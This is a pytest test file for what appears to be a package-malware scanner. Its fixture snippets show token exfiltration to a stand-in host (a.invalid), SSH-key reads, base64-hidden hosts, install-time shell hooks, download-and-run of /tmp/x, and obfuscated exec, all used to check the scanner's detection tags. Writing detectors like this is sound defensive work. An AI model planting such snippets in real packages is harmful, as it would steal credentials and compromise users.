"""What is used is told from what is only named; what is decoded before it is used says so."""

import pytest

from tests.code.reading import facts

SET_UP = "demo-1.0/setup.py"
HEAD = "import os, sys, subprocess\nfrom setuptools import setup, Command\n"


def installed(source: str, **more: str) -> dict[str, list[object]]:
    files = {
        SET_UP: HEAD + source,
        **{path.replace("__", "/"): text for path, text in more.items()},
    }
    return facts(files, {SET_UP: "install"}, "sdist")  # type: ignore[return-value]


def test_a_name_in_prose_says_nothing() -> None:
    assert "creds/browser" not in facts({"kind/a.py": '"""Asks for Login Data."""\nimport os\n'})


def test_a_name_in_a_table_is_a_mention_and_a_call_with_it_a_use() -> None:
    source = "import os\nKEYS = ['~/.ssh/id_rsa']\ndef go():\n    return open(KEYS[0]).read()\n"
    found = facts({"kind/__init__.py": source}, {"kind/__init__.py": "import"})["creds/private-key"]
    assert {("mention" in one.tags, one.activation) for one in found} >= {
        (True, "import"),
        (False, "call"),
    }


def test_an_address_that_is_decoded_first_says_so() -> None:
    source = (
        "import base64, requests\ndef go():\n"
        "    requests.get(base64.b64decode('aHR0cHM6Ly9hLmludmFsaWQvYg==').decode())\n"
    )
    found = facts({"kind/a.py": source})["net/http"]
    assert any("decoded-value" in one.tags for one in found)


def test_one_variable_is_not_the_whole_environment() -> None:
    source = (
        "import os, requests\ndef go():\n    if 'PROXY' in os.environ:\n"
        "        host, port = os.environ['PROXY'].split(':')\n"
        "        requests.post('https://a.invalid', data=host)\n"
    )
    assert "creds/env-dump" not in facts({"kind/a.py": source})


def test_a_key_that_the_caller_gives_and_the_code_posts_is_a_chain() -> None:
    source = (
        "import requests\ndef balance(private_key):\n"
        "    requests.post('https://a.invalid/x', json=[{'key': private_key}])\n"
    )
    assert any("key" in one.tags for one in facts({"kind/a.py": source})["net/exfil-chain"])


def test_publishing_when_a_person_asks_is_no_installation() -> None:
    found = installed(
        "if sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\nsetup()\n"
    )
    assert {one.activation for one in found["exec/shell"]} == {"call"}  # type: ignore[attr-defined]


def test_a_command_of_its_own_name_runs_when_it_is_named() -> None:
    source = (
        "class Upload(Command):\n    user_options = []\n    def initialize_options(self): pass\n"
        "    def finalize_options(self): pass\n    def run(self): os.system('echo up')\n"
    )
    late = installed(source + "setup(cmdclass={'upload': Upload})\n")
    early = installed(source + "setup(cmdclass={'install': Upload})\n")
    assert {one.activation for one in late["exec/shell"]} == {"call"}  # type: ignore[attr-defined]
    assert {one.activation for one in early["exec/shell"]} == {"install"}  # type: ignore[attr-defined]


def test_a_module_started_by_name_runs_now() -> None:
    post = (
        "import os\ndef run():\n    os.system('echo hi')\nif __name__ == '__main__':\n    run()\n"
    )
    found = facts(
        {
            SET_UP: HEAD + "subprocess.call([sys.executable, '-m', 'kind.post'])\nsetup()\n",
            "demo-1.0/kind/__init__.py": "\n",
            "demo-1.0/kind/post.py": post,
        },
        {SET_UP: "install"},
        "sdist",
    )
    assert any(
        one.activation == "install" and one.location.member.endswith("post.py")
        for one in found["exec/shell"]
    )


def test_a_program_that_the_archive_does_not_hold_is_absent() -> None:
    found = installed("subprocess.call([sys.executable, 'after.py'])\nsetup()\n")
    assert any("absent" in one.tags for one in found["exec/process"])  # type: ignore[attr-defined]


def test_what_takes_too_long_to_compute_is_still_seen_to_be_run() -> None:
    letters = "".join(chr(97 + number % 26) for number in range(6000))
    source = (
        f"exec(''.join([y[0] for x in {letters!r} for y in "
        "[[a, b] for a, b in zip('abcdefghijklmnopqrstuvwxyz' * 40, 'b' * 1040)] if x == y[0]]))\n"
    )
    found = facts({"kind/__init__.py": source}, {"kind/__init__.py": "import"})
    assert "exec/dynamic-code" in found
    assert any("computed" in one.tags for one in found.get("obfus/encoded-exec", []))


def test_a_file_that_was_left_in_a_temporary_place_and_started_is_read() -> None:
    found = installed(
        "from tempfile import NamedTemporaryFile\nfile = NamedTemporaryFile(delete=False)\n"
        "file.write(b\"import os;os.system('echo hi')\")\nfile.close()\n"
        "os.system(f'start {sys.executable} {file.name}')\nsetup()\n"
    )
    assert any(one.location.layer for one in found["exec/shell"])  # type: ignore[attr-defined]


def test_an_address_in_clear_with_a_decoded_part_behind_it_hides_nothing() -> None:
    source = (
        "import base64, requests\ndef go():\n"
        "    page = base64.b64decode('cGFnZQ==').decode()\n"
        "    requests.get('https://docs.example/' + page + '/1')\n"
    )
    found = facts({"kind/a.py": source})["net/http"]
    assert not any("decoded-value" in one.tags for one in found)


def test_a_decoded_host_stays_hidden_whatever_is_put_behind_it() -> None:
    source = (
        "import base64, requests\ndef go(one):\n"
        "    host = base64.b64decode('aHR0cHM6Ly9hLmludmFsaWQ=').decode()\n"
        "    requests.get(host + f'/{one}')\n"
    )
    found = facts({"kind/a.py": source})["net/http"]
    assert any("decoded-value" in one.tags for one in found)


def test_a_program_that_was_looked_for_is_not_absent() -> None:
    found = installed(
        "for folder, _, names in os.walk('.'):\n"
        "    for name in names:\n        subprocess.call([os.path.join(folder, name)])\n"
        "setup(name='demo')\n"
    )
    assert not any("absent" in one.tags for one in found.get("exec/process", []))  # type: ignore[attr-defined]


def test_what_no_installer_says_to_a_script_runs_when_a_person_says_it() -> None:
    source = "if sys.argv[-1] {}:\n    subprocess.call(['twine', 'upload'])\n    sys.exit()\n"
    for asked, expected in (
        ("== 'wheelhouse'", "call"),
        ("in ('ship', 'announce')", "call"),
        ("== 'install'", "install"),
        ("in ('ship', 'install')", "install"),
    ):
        found = installed(source.format(asked) + "setup(name='demo')\n")["exec/process"]
        assert {one.activation for one in found} == {expected}, asked  # type: ignore[attr-defined]


def test_a_main_module_runs_when_somebody_runs_its_package() -> None:
    source = "import subprocess\nsubprocess.call(['ls'])\n"
    found = facts({"kind/__init__.py": "", "kind/__main__.py": source})["exec/process"]
    assert {one.activation for one in found} == {"entrypoint"}


def test_a_page_that_is_read_is_prose_and_a_joined_command_is_not() -> None:
    page = "Tool\n====\n\nInstall it:\n\n    python -m pip install tool\n\nSee <docs/>.\n"
    found = installed(
        "text = open('README.rst').read().replace('<docs/', '<https://docs.example/')\n"
        "setup(name='demo', long_description=text)\n",
        **{"demo-1.0__README.rst": page},
    )
    assert all("mention" in one.tags for one in found.get("exec/install-package", []))  # type: ignore[attr-defined]
    found = installed("os.system('pip ' + 'install ' + 'tool')\nsetup(name='demo')\n")
    assert not any("mention" in one.tags for one in found["exec/install-package"])  # type: ignore[attr-defined]


@pytest.mark.parametrize("default", ["|| ''", "|| 'none'", "?? 'none'", "|| []", "?? {}"])
def test_a_default_of_javascript_does_not_hide_what_it_stands_in_for(default):
    code = f"const t = process.env.NPM_TOKEN {default}\nfetch('https://a.invalid/' + t)\n"
    found = facts({"package/index.js": code}, {"package/index.js": "import"}, "npm")
    assert "net/exfil-chain" in found


@pytest.mark.parametrize("default", ["or ''", "or 'none'"])
def test_a_default_of_python_does_not_hide_what_it_stands_in_for(default):
    code = (
        "import os, urllib.request as u\n"
        f"u.urlopen('https://a.invalid/' + (os.environ.get('PYPI_TOKEN') {default}))\n"
    )
    found = facts({"tide/__init__.py": code}, {"tide/__init__.py": "import"})
    assert "net/exfil-chain" in found


def test_a_program_that_was_fetched_is_named_by_where_it_came_from() -> None:
    code = (
        "import subprocess, urllib.request\n"
        "answer = urllib.request.urlopen('https://a.invalid/x')\n"
        "with open('/tmp/x', 'wb') as file:\n"
        "    body = answer.read()\n"
        "    file.write(body)\n"
        "subprocess.call(['/tmp/x'])\n"
    )
    found = facts({"tide/__init__.py": code}, {"tide/__init__.py": "import"})
    (run,) = found["exec/download-run"]
    assert "https://a.invalid/x" in [value.text for value in run.values]


def test_values_of_one_of_several_tuples_are_not_taken_for_each_other() -> None:
    code = (
        "import socket\n"
        "class Line:\n"
        "    def __init__(self):\n"
        "        self.way = (None, None)\n"
        "    def choose(self, kind):\n"
        "        self.way = (kind, True)\n"
        "    def reach(self, place):\n"
        "        kind, _ = self.way\n"
        "        if not kind:\n"
        "            return\n"
        "        socket.create_connection(place)\n"
    )
    assert "net/socket" in facts({"tide/__init__.py": code}, {"tide/__init__.py": "import"})
